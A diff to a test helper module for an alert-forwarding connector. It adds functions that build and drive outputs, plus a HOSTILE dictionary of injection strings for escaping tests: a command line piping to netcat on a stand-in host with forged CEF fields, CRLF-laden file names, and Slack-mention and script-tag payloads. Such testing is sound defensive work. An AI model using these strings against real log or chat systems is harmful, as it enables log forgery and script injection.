@@ -84,3 +84,33 @@ def running_outputs(cfg: Config, spec: dict[str, Any]) -> Iterator[threading.Eve
         thread.join(60)
     assert not thread.is_alive(), "connector did not stop"
     assert result == [0], f"connector exit code {result}"
+
+
+def build_output(type_name: str, **options: Any) -> Any:
+    """An output as the connector builds it from outputs.yaml (options checked strictly)."""
+    from outputs.config import OutputSpec
+    from outputs.registry import create
+
+    return create(OutputSpec(name=f"test-{type_name}", type=type_name, options=options, where="test"))
+
+
+def send(output: Any, alerts: list[dict[str, Any]]) -> None:
+    """start, send, close in one event loop, as the output's worker thread does."""
+    import asyncio
+
+    async def go() -> None:
+        await output.start()
+        try:
+            await output.send(alerts)
+        finally:
+            await output.close()
+
+    asyncio.run(go())
+
+
+# Values an attacker controls (file names, command lines, container names) built to break every format.
+HOSTILE = {
+    "proc.cmdline": 'sh -c "x" | nc evil 1 act=blocked suser=root \\ end] [evil@1 a="b"]\nCEF:0|fake|line',
+    "fd.name": "/tmp/a=b|c\\d]\"e\r\nnext",
+    "container.name": "<!channel> <http://evil.example|click> & <script>alert(1)</script> *bold* [x](http://e)",
+}
